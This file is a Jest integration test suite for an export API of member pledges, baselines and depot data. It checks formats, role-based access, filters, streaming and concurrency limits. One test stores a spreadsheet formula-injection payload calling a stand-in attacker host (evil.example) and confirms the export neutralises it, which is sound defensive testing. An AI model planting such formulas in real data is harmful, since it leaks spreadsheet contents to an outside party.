import { connect, type Socket } from 'node:net';
import { parse } from 'csv-parse/sync';
import { Workbook } from 'exceljs';
import { DATASETS } from '#features/exports/datasets';
import { headerOf } from '#platform/spreadsheet/table';
import type { Caller } from '../support/caller';
import { Ledger } from '../support/ledger';
import { SmallWorld } from '../support/small-world';

let ledger: Ledger;
let world: SmallWorld;
let everybody: Record<'public' | 'operator' | 'administrator' | 'auditor', Caller>;

jest.setTimeout(600_000);

beforeAll(async () => {
  ledger = await Ledger.start();
  world = await SmallWorld.load(ledger);
  await world.stock('DEU', 5_000);
  await world.stock('JPN', 4_000);
  const run = await world.allocate(await world.disrupt());
  const { body } = await world.first.get<{ awards: { id: string; member: string }[] }>(
    `/v1/awards?run=${run}`,
  );
  const award = body.awards.find(({ member }) => member === 'KEN');
  await world.operators.KEN.done(`/v1/awards/${award?.id}/accept`);
  const drawdown = await world.first.done(`/v1/awards/${award?.id}/drawdowns`);
  await world.second.done(`/v1/drawdowns/${drawdown.id}/release`);
  await world.operators.KEN.done(`/v1/drawdowns/${drawdown.id}/collect`);
  everybody = {
    public: ledger.anonymous(),
    operator: world.operators.DEU,
    administrator: world.first,
    auditor: world.auditor,
  };
});
afterAll(() => ledger.stop());

/** The records of a CSV export by their column. */
async function records(caller: Caller, path: string): Promise<Record<string, string>[]> {
  const { status, body } = await caller.get<string>(`/v1/exports/${path}`);
  expect([path, status]).toEqual([path, 200]);
  return parse(body, { columns: true, record_delimiter: '\r\n' });
}

async function bytes(caller: Caller, path: string): Promise<{ head: Headers; body: Buffer }> {
  const token = caller.token === undefined ? {} : { Authorization: `Bearer ${caller.token}` };
  const answer = await fetch(`${ledger.url}/v1/exports/${path}`, { headers: token });
  return { head: answer.headers, body: Buffer.from(await answer.arrayBuffer()) };
}

describe.each(DATASETS.map((dataset) => [dataset.name, dataset] as const))(
  '%s',
  (name, dataset) => {
    it('has its columns and at least one record in each format', async () => {
      const [first] = await records(world.auditor, `${name}.csv`);
      expect(Object.keys(first ?? {})).toEqual(dataset.columns.map(headerOf));

      const { body: lines } = await bytes(world.auditor, `${name}.jsonl`);
      const [line = ''] = lines.toString('utf8').split('\n');
      expect(Object.keys(JSON.parse(line) as object)).toEqual(dataset.columns.map((c) => c.name));

      const workbook = new Workbook();
      const { body: sheet } = await bytes(world.auditor, `${name}.xlsx`);
      await workbook.xlsx.load(sheet as unknown as ArrayBuffer);
      const header = workbook.worksheets[0]?.getRow(1).values as unknown[];
      expect(header.slice(1)).toEqual(dataset.columns.map(headerOf));
      expect(workbook.worksheets[0]?.rowCount).toBeGreaterThan(1);
    });

    it('is for those who may read its list, and nobody else', async () => {
      const expected = {
        anybody: { public: 200, operator: 200, administrator: 200, auditor: 200 },
        'own-member': { public: 401, operator: 200, administrator: 200, auditor: 200 },
        trust: { public: 401, operator: 403, administrator: 200, auditor: 200 },
      }[dataset.audience];
      for (const [who, caller] of Object.entries(everybody)) {
        const { status } = await caller.get(`/v1/exports/${name}.csv`);
        expect([who, status]).toEqual([who, expected[who as keyof typeof expected]]);
      }
    });
  },
);

describe('national figures', () => {
  it('are exported to an operator for its own member only', async () => {
    const own = await records(world.operators.DEU, 'baselines.csv');
    expect(new Set(own.map(({ member }) => member))).toEqual(new Set(['DEU']));
    const all = await records(world.auditor, 'baselines.csv');
    expect(new Set(all.map(({ member }) => member))).toEqual(new Set(['DEU', 'JPN', 'KEN']));
  });

  it('of another member are refused by name', async () => {
    const { status, body } = await world.operators.DEU.get<{ type: string }>(
      '/v1/exports/baselines.csv?member=JPN',
    );
    expect([status, body.type]).toEqual([403, expect.stringMatching(/member-not-yours$/)]);
  });
});

it('leaves out what was drafted and never offered, whoever asks', async () => {
  const draft = await world.operators.DEU.done('/v1/pledges', {
    material: 'cobalt',
    draft: true,
    instalments: [{ dueDate: '2031-01-01', quantity: { value: '77', unit: 'KGM' } }],
  });
  for (const caller of Object.values(everybody)) {
    for (const name of ['pledges', 'instalments']) {
      const pledges = (await records(caller, `${name}.csv`)).map(({ pledge }) => pledge);
      expect(pledges.length).toBeGreaterThan(0);
      expect(pledges).not.toContain(draft.id);
    }
  }
});

it('shows why a member withholds its figures, and none of them', async () => {
  await world.operators.JPN.done('/v1/members/JPN/baselines', {
    ...{ material: 'cobalt', period: '2024', source: 'a test' },
    withheld: 'Defence: aggregated figures disclose one consumer.',
  });
  const rows = await records(world.auditor, 'baselines.csv?member=JPN');
  expect(rows.at(-1)).toMatchObject({
    ...{ member: 'JPN', period: '2024', quality: '', consumption_kg: '', own_stocks_kg: '' },
    withheld: 'Defence: aggregated figures disclose one consumer.',
  });
});

describe('filters', () => {
  it('narrow the rows by member, material and day', async () => {
    const of = async (query: string): Promise<string[]> =>
      (await records(everybody.public, `contributions.csv?${query}`)).map(({ member }) => member!);
    expect(await of('member=DEU')).toEqual(['DEU']);
    expect(await of('material=cobalt')).toEqual(['DEU', 'JPN']);
    expect(await of('material=copper')).toEqual([]);
    expect(await of('from=2024-06-30&to=2024-06-30')).toEqual(['DEU', 'JPN']);
    expect(await of('from=2024-07-01')).toEqual([]);
    expect(await of('to=2024-06-29&member=JPN')).toEqual([]);
    const today = new Date().toISOString().slice(0, 10);
    expect(await records(everybody.public, `pledges.csv?from=${today}`)).toHaveLength(2);
    expect(await records(everybody.public, `pledges.csv?to=${today}`)).toHaveLength(2);
  });

  it('give the movements of one account, which add up to its balance', async () => {
    const account = 'cobalt/reserve-free/-/NLRTM';
    const moved = await records(world.auditor, `transfers.csv?account=${account}`);
    const [held] = await records(world.auditor, `accounts.csv?account=${account}`);
    const sum = moved
      .filter(({ kind }) => kind === 'posted' || kind === 'post')
      .map((t) => Number(t.quantity_kg) * (t.to_account === account ? 1 : -1))
      .reduce((a, b) => a + b, 0);
    expect(moved.length).toBeGreaterThan(2);
    expect(sum).toBe(Number(held?.posted_kg));
  });

  it.each([
    ['members.csv?material=cobalt', 400, 'filter-not-offered'],
    ['depots.csv?from=2024-01-01', 400, 'filter-not-offered'],
    ['pledges.csv?from=2024-02-01&to=2024-01-31', 400, 'days-reversed'],
    ['pledges.csv?from=2024-02-30', 400, 'request-invalid'],
    ['pledges.csv?account=x', 400, 'request-invalid'],
    ['pledges.csv?sort=id', 400, 'request-invalid'],
    ['pledges.ods', 404, 'export-unknown'],
    ['pledges', 404, 'export-unknown'],
    ['principals.csv', 404, 'export-unknown'],
  ])('refuse %s', async (path, status, code) => {
    const answer = await world.auditor.get<{ type: string }>(`/v1/exports/${path}`);
    expect([answer.status, answer.body.type.split('/').at(-1)]).toEqual([status, code]);
  });
});

it('names the file after dataset and day, and is no page', async () => {
  const today = new Date().toISOString().slice(0, 10);
  for (const format of ['csv', 'xlsx', 'jsonl']) {
    const { head } = await bytes(everybody.public, `pledges.${format}`);
    expect(head.get('content-disposition')).toBe(
      `attachment; filename="gmt-pledges-${today}.${format}"`,
    );
    expect(head.get('content-type')).not.toMatch(/html|json;/);
    expect(head.get('x-content-type-options')).toBe('nosniff');
  }
});

it('leaves formulas in what members wrote inert', async () => {
  const note = '=HYPERLINK("http://evil.example/?"&A1,"see")';
  await world.operators.DEU.done('/v1/pledges', {
    material: 'cobalt',
    note,
    instalments: [{ dueDate: '2030-01-01', quantity: { value: '1', unit: 'KGM' } }],
  });
  const notes = (await records(everybody.public, 'pledges.csv')).map((record) => record.note);
  expect(notes).toContain(`'${note}`);
  const workbook = new Workbook();
  const { body } = await bytes(everybody.public, 'pledges.xlsx');
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const [sheet] = workbook.worksheets;
  const column = (sheet?.getRow(1).values as string[]).indexOf('note');
  const cells = sheet?.getColumn(column).values ?? [];
  expect(cells).toContain(note);
});

const SOAK = process.env['GMT_SOAK'] === '1';
const MEBIBYTE = 1_048_576;

describe('a long export', () => {
  const COUNT = SOAK ? 200_000 : 60_000;
  const sockets: Socket[] = [];

  beforeAll(async () => {
    await ledger.rows(
      `insert into depot (unlocode, name, country, latitude, longitude, opened_at)
       select 'Z' || chr(65 + n / 17576) || chr(65 + n / 676 % 26) || chr(65 + n / 26 % 26)
                || chr(65 + n % 26), repeat(md5(n::text), 3), 'DEU', '51.92', '-4.5', now()
       from generate_series(0, $1 - 1) as n`,
      [COUNT],
    );
  });
  afterEach(() => {
    for (const socket of sockets.splice(0)) socket.destroy();
  });

  /** Asks for an export and reads only its beginning. */
  async function begin(path: string): Promise<string> {
    const socket = connect(Number(new URL(ledger.url).port), '127.0.0.1');
    sockets.push(socket);
    socket.on('error', () => undefined);
    socket.write(`GET /v1/exports/${path} HTTP/1.1\r\nHost: test\r\n\r\n`);
    return new Promise((resolve) => {
      socket.once('data', (chunk) => {
        socket.pause();
        resolve(chunk.toString('latin1'));
      });
    });
  }

  /** Exports under way, whether between two fetches or in the midst of one. */
  const streaming = async (): Promise<number> => {
    const [row] = await ledger.rows<{ n: number }>(
      `select count(*)::int as n from pg_stat_activity
       where datname = current_database() and state <> 'idle' and query like 'fetch%'`,
    );
    return row?.n ?? -1;
  };

  async function until(count: number): Promise<void> {
    const deadline = Date.now() + 25_000;
    let seen = await streaming();
    while (seen !== count && Date.now() < deadline) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      seen = await streaming();
    }
    expect(seen).toBe(count);
  }

  it.each(['csv', 'xlsx', 'jsonl'])(
    'is sent as %s while the query still stands',
    async (format) => {
      expect(await begin(`depots.${format}`)).toMatch(/^HTTP\/1\.1 200 /);
      await until(1);
      for (const socket of sockets) socket.destroy();
      await until(0);
    },
  );

  it('arrives whole', async () => {
    const rows = await records(everybody.public, 'depots.csv');
    expect(rows).toHaveLength(COUNT + 2);
    expect(new Set(rows.map(({ unlocode }) => unlocode)).size).toBe(COUNT + 2);
  });

  // Client and server are one process here, so this is what both need together. Of fewer rows
  // the noise of a heap says more than a leak.
  if (SOAK) {
    it.each(['csv', 'xlsx', 'jsonl'])(
      'as %s needs no memory that grows with it',
      async (format) => {
        const before = process.memoryUsage.rss();
        let most = before;
        const { body } = await fetch(`${ledger.url}/v1/exports/depots.${format}`);
        let length = 0;
        for await (const chunk of body as unknown as AsyncIterable<Uint8Array>) {
          length += chunk.length;
          most = Math.max(most, process.memoryUsage.rss());
        }
        expect(length).toBeGreaterThan(COUNT * 20);
        expect((most - before) / MEBIBYTE).toBeLessThan(150);
      },
    );
  }

  it('leaves room for everybody else, and says so to who comes on top', async () => {
    const heads = await Promise.all(Array.from({ length: 12 }, () => begin('depots.csv')));
    expect(heads.filter((head) => head.startsWith('HTTP/1.1 200'))).toHaveLength(5);
    const refused = heads.filter((head) => head.startsWith('HTTP/1.1 503'));
    expect(refused).toHaveLength(7);
    for (const head of refused) expect(head).toMatch(/problems\/busy/);
    // On a machine at its limit a new connection may take longer than a request waits for one.
    let status = 503;
    for (let tries = 0; status === 503 && tries < 20; tries += 1) {
      status = (await everybody.public.get('/v1/members')).status;
    }
    expect(status).toBe(200);
    for (const socket of sockets) socket.destroy();
    await until(0);
  });

  it('keeps no connection when its reader goes away or only asks for the head', async () => {
    for (let i = 0; i < 20; i += 1) {
      const going = new AbortController();
      const answer = await fetch(`${ledger.url}/v1/exports/depots.csv`, { signal: going.signal });
      expect([200, 503]).toContain(answer.status);
      going.abort();
      await everybody.public.send('HEAD', '/v1/exports/depots.xlsx', undefined);
    }
    await until(0);
    expect((await everybody.public.get('/v1/exports/members.csv')).status).toBe(200);
  });
});
